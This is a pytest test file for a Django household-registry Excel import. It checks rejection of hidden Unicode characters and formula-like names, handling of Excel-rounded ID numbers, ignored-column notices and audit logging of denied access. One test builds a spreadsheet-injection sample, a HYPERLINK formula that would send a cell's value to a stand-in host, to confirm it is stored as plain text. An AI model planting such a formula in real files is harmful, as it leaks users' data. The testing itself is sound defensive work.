"""What an import may not let slip: a name or number with a hidden character or starting like a
formula, an ID number whose digits Excel lost coming back as an invented number through the error
workbook, columns dropped without a word, and another user's import looked at without a trace.
Each workbook is a real one, written with openpyxl and read back with calamine."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import translation
from django_tasks_db.models import DBTaskResult
from python_calamine import CalamineWorkbook

from linli.core.choices import AuditAction, AuditOutcome
from linli.core.jobs import run_pending_jobs
from linli.core.models import AuditRecord
from linli.registry import imports
from linli.registry.choices import ImportStatus
from linli.registry.importing.columns import COLUMNS, ERROR_HEADER
from linli.registry.models import Household, RegistryImport, Resident

from .. import factories as f
from .import_helpers import (
    HEADERS,
    KEYS,
    errors_of,
    family,
    household,
    in_chinese,
    new_id,
    place_fixture,  # noqa: F401 - the `place` fixture
    run_import,
    table_counts,
    write_workbook,
)

NAME, ADDRESS, ID, MOBILE, NUMBER = (
    KEYS.index(k) for k in ("name", "address", "id_number", "mobile", "number")
)


def _one(number: str, **head) -> list:
    person = {"name": "赵建国", "id_number": new_id(), "relation": "户主", **head}
    return household(number, [person])


def _as_text(path, cells: dict[tuple[int, int], str]):
    """Set cells (1-based row, column) to text exactly as given: openpyxl would otherwise
    write a string starting with = as a formula."""
    book = openpyxl.load_workbook(path)
    for (row, column), value in cells.items():
        cell = book.active.cell(row=row, column=column, value=value)
        cell.data_type = "s"
    book.save(path)
    return path


# --- names and numbers, as in the forms -------------------------------------------------------------

HIDDEN = {
    "name": ("刘\u202e辉志", "姓名含有不可见字符或控制字符（U+202E）"),
    "id_number": (None, "身份证号含有不可见字符或控制字符（U+200B）"),
    "head_id_number": (None, "户主身份证号含有不可见字符或控制字符（U+200B）"),
    "mobile": ("138\u316412345678", "联系电话含有不可见字符或控制字符（U+3164）"),
    "number": ("\ufeff209001", "户号含有不可见字符或控制字符（U+FEFF）"),
    "address": ("王家庄村\u20601号", "地址含有不可见字符或控制字符（U+2060）"),
}


@pytest.mark.parametrize("column", HIDDEN.keys())
def test_a_hidden_character_is_reported_at_its_row_and_column(place, tmp_path, column):
    value, expected = HIDDEN[column]
    rows = _one("209001")
    if value is None:  # the same ID number in both columns, a zero-width space in one
        good = rows[0][ID]
        value = good[:6] + "\u200b" + good[6:]
    rows[0][KEYS.index(column)] = value
    counts = table_counts()

    result = run_import(write_workbook(tmp_path / "hidden.xlsx", rows))

    assert result.status == ImportStatus.REJECTED
    found = [e for e in errors_of(result) if e.column == column]
    assert len(found) == 1 and found[0].row == 2, errors_of(result)
    assert in_chinese(found[0]).startswith(expected), in_chinese(found[0])
    assert table_counts() == counts


def test_a_name_starting_like_a_formula_is_refused_and_an_address_is_kept_as_text(place, tmp_path):
    link = '=HYPERLINK("http://example.com/?"&A2,"点击")'
    good = _one("209001")
    bad = _one("209002")
    path = write_workbook(tmp_path / "formulas.xlsx", good + bad)
    _as_text(path, {(2, ADDRESS + 1): link, (3, NAME + 1): "=1+1", (3, ADDRESS + 1): "\t@SUM(A1)"})

    result = run_import(path)

    assert result.status == ImportStatus.REJECTED
    [error] = errors_of(result)
    assert (error.row, error.column, error.value) == (3, "name", "=1+1")
    assert in_chinese(error).startswith("姓名不能以 = + - @ 开头")
    # Only the valid households, and the formula-like address is stored as the text it is.
    result = run_import(path, valid_only=True)
    assert result.status == ImportStatus.DONE
    assert Household.objects.get(number="209001").address == link
    assert not Household.objects.filter(number="209002").exists()


# --- an ID number whose digits Excel lost ------------------------------------------------------------

# Excel keeps 15 significant digits: 370772198405189xxx is stored as 370772198405189000, which a
# float spells 370772198405188992 — whose check digit and birth date happen to be valid.
SHORTENED = 370772198405189000
INVENTED = "370772198405188992"
SHOWN = "3.70772198405189E+17"


def test_a_lost_id_number_stays_flagged_through_the_error_workbook(place, tmp_path):
    from stdnum.cn import ric

    assert ric.calc_check_digit(INVENTED[:17]) == INVENTED[-1]  # the trap is real
    head = {"name": "赵建国", "id_number": new_id(), "relation": "户主"}
    spouse = {"name": "钱秀兰", "id_number": SHORTENED, "relation": "配偶"}
    rows = household("209001", [head, spouse]) + _one("209002", mobile="1381234567")
    result = run_import(write_workbook(tmp_path / "register.xlsx", rows))
    assert result.status == ImportStatus.REJECTED
    lost = next(e for e in errors_of(result) if e.column == "id_number")
    assert (lost.row, lost.value) == (3, SHOWN)

    report = tmp_path / "register-errors.xlsx"
    imports.import_error_report(registry_import=result, target=report)
    table = CalamineWorkbook.from_path(str(report)).get_sheet_by_index(0).to_python()
    assert table[2][ID] == SHOWN  # what Excel showed, as text; not the invented 18 digits
    assert INVENTED not in str(table)

    # The user corrects the mobile number in the error workbook and hands it back in.
    book = openpyxl.load_workbook(report)
    book.active.cell(row=4, column=MOBILE + 1, value="13812345678")
    book.save(report)
    counts = table_counts()

    again = run_import(report)

    assert again.status == ImportStatus.REJECTED
    [error] = errors_of(again)
    assert (error.row, error.column, error.value) == (3, "id_number", SHOWN)
    reason = in_chinese(error)
    assert SHOWN in reason and "文本格式" in reason and "重新录入" in reason
    assert again.ignored_columns == []  # our own error columns are not "ignored" columns
    assert table_counts() == counts
    assert not Resident.objects.filter(id_number=INVENTED).exists()


def test_a_household_number_excel_made_a_long_number_is_flagged(place, tmp_path):
    rows = _one("209001")
    for cells in rows:
        cells[NUMBER] = 3707720012010001234  # 19 digits in a number cell
    result = run_import(write_workbook(tmp_path / "numbers.xlsx", rows))
    assert result.status == ImportStatus.REJECTED
    [error] = [e for e in errors_of(result) if e.column == "number"]
    assert error.value == "3.70772001201E+18"
    assert "3.70772001201E+18" in in_chinese(error)


# --- columns the import does not read ------------------------------------------------------------


def _with_extra_columns(tmp_path):
    """The template's columns with 联系电话 misspelt as 手机 (an optional column), and a 备注
    column added at the end."""
    rows, ids = family("208001", 2)
    headers = [("手机" if h == "联系电话" else h) for h in HEADERS] + ["备注"]
    rows = [[*cells, "低保户"] for cells in rows]
    for cells in rows:
        cells[MOBILE] = "13812345678"
    return write_workbook(tmp_path / "extra.xlsx", rows, headers=headers), ids


def test_the_columns_not_imported_are_named_in_the_result_page_and_job(
    place, tmp_path, client, django_capture_on_commit_callbacks
):
    worker = f.user_with("community_worker", place.world.communities[0])
    path, ids = _with_extra_columns(tmp_path)
    client.force_login(worker)
    with django_capture_on_commit_callbacks(execute=True), path.open("rb") as upload:
        response = client.post(reverse("registry:import"), {"file": upload})
    assert response.status_code == 302
    assert run_pending_jobs() == 1

    registry_import = RegistryImport.objects.get(created_by=worker)
    assert registry_import.status == ImportStatus.DONE
    assert registry_import.ignored_columns == [["手机", "J"], ["备注", "N"]]
    job = DBTaskResult.objects.get()
    assert job.return_value["ignored_columns"] == [["手机", "J"], ["备注", "N"]]
    page = client.get(response.url, HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert "以下列未导入" in page and "手机（J 列）、备注（N 列）" in page
    # The mobile numbers under the misspelt header were not imported: the notice says why.
    assert Resident.objects.get(id_number=ids[0]).mobile == ""


def test_the_command_line_names_the_columns_not_imported(place, tmp_path):
    path, _ids = _with_extra_columns(tmp_path)
    out = io.StringIO()
    with translation.override("zh-hans"):
        call_command("import_registry", str(path), stdout=out, stderr=io.StringIO())
    assert "未导入的列：手机（J 列）、备注（N 列）" in out.getvalue()


def test_a_column_without_a_header_but_with_data_is_named_too(place, tmp_path):
    rows, _ids = family("208001", 2)
    headers = [*HEADERS, "", "备注"]
    rows = [[*cells, "有内容", ""] for cells in rows]
    result = run_import(write_workbook(tmp_path / "blank.xlsx", rows, headers=headers))
    assert result.ignored_columns == [["", "N"], ["备注", "O"]]
    with translation.override("zh-hans"):
        assert imports.ignored_columns_text(result) == "无表头（N 列）、备注（O 列）"


def test_a_misspelt_required_header_still_fails_the_file(place, tmp_path):
    rows, _ids = family("208001", 2)
    headers = [("名字" if h == "姓名" else h) for h in HEADERS]
    result = run_import(write_workbook(tmp_path / "required.xlsx", rows, headers=headers))
    assert result.status == ImportStatus.FAILED
    assert result.failure["params"]["columns"] == "姓名"


# --- another user's import -------------------------------------------------------------------------


def test_another_users_import_is_404_and_recorded_as_a_denial(place, tmp_path, client):
    owner = f.user_with("community_worker", place.world.communities[0])
    rows, ids = family("208001", 2)
    rows[1][ID] = ids[1][:-1] + ("0" if ids[1][-1] != "0" else "1")
    result = run_import(write_workbook(tmp_path / "mine.xlsx", rows), actor=owner)
    assert result.errors  # so that its error workbook exists
    other = f.user_with("community_worker", place.world.communities[0])
    client.force_login(other)

    for name in ("registry:import_detail", "registry:import_errors"):
        assert client.get(reverse(name, args=[result.pk])).status_code == 404

    denials = AuditRecord.objects.filter(action=AuditAction.DENIED, actor=other)
    assert [(d.object_type, d.object_id, d.outcome) for d in denials] == [
        ("registry.registryimport", str(result.pk), AuditOutcome.FAILURE)
    ] * 2
    assert {d.changes["path"] for d in denials} == {
        reverse("registry:import_detail", args=[result.pk]),
        reverse("registry:import_errors", args=[result.pk]),
    }
    # The owner sees it, and that is no denial.
    client.force_login(owner)
    assert client.get(reverse("registry:import_detail", args=[result.pk])).status_code == 200
    assert not AuditRecord.objects.filter(action=AuditAction.DENIED, actor=owner).exists()


def test_the_error_workbook_writes_every_cell_as_text(place, tmp_path):
    rows = _one("209001", mobile="1381234567")
    path = write_workbook(tmp_path / "x.xlsx", rows)
    _as_text(path, {(2, ADDRESS + 1): "=1+2"})
    result = run_import(path)
    out = io.BytesIO()
    imports.import_error_report(registry_import=result, target=out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet  # no formula: the address is a string cell
    table = CalamineWorkbook.from_filelike(io.BytesIO(out.getvalue())).get_sheet_by_index(0)
    data = table.to_python()
    assert data[0][len(COLUMNS)] == ERROR_HEADER and data[1][ADDRESS] == "=1+2"
